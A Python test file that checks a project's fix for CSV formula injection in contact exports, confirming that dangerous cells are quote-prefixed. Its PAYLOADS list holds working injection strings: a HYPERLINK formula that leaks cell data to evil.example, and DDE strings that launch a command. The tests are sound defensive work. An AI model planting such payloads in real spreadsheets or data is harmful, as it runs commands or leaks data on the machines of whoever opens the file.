"""Security: CSV formula injection (issue #22, hole 5).

Exported cells starting with `=`, `+`, `-`, `@`, a tab or a carriage return were written as they
were, so a name planted by anyone (an anonymous `$identify` could) ran as a formula in the
spreadsheet of whoever opened the export. Per OWASP such cells are now prefixed with a quote.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command

from madansara.spreadsheets import cell_neutralise, cell_restore
from madansara.tests.factories import make_contact

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip


@pytest.mark.django_db
def test_export_neutralises_every_cell_a_spreadsheet_would_run():
    # given contacts whose name, tag and attribute hold formulas
    for n, payload in enumerate(PAYLOADS):
        make_contact(name=payload.strip(), tags=[f"@tag{n}"], attributes={"note": payload}, identities={"x": f"h{n}"})
    make_contact(name="Ana", identities={"sms": "+50934123456"}, attributes={"note": "-12.5"})
    out = io.StringIO()
    # when they are exported
    call_command("export_contacts", stdout=out, stderr=io.StringIO())
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    # then no cell starts with a formula trigger, except plain numbers (phones in E.164)
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == ["+50934123456", "-12.5"]
    by_handle = {row["x"]: row for row in rows}
    for n, payload in enumerate(PAYLOADS):  # names are stored stripped; attributes as given
        assert by_handle[f"h{n}"]["name"] == "'" + payload.strip()
        assert by_handle[f"h{n}"]["attr_note"] == "'" + payload
        assert by_handle[f"h{n}"]["tags"] == f"'@tag{n}"


@pytest.mark.parametrize("value", [*PAYLOADS, "plain", "", "'=already quoted", "+509 3412 3456"])
def test_neutralised_cells_read_back_as_written(value):
    assert cell_restore(str(cell_neutralise(value))) == value or value.startswith("'=")


def test_every_csv_the_product_writes_goes_through_the_neutralising_writer():
    root = Path(settings.BASE_DIR)
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "bench/", "var/", "tests/")) or "/tests/" in relative:
            continue
        if relative == "madansara/spreadsheets.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8", errors="replace")):
            offenders.append(relative)
    assert offenders == [], "write CSV with madansara.spreadsheets.csv_writer"
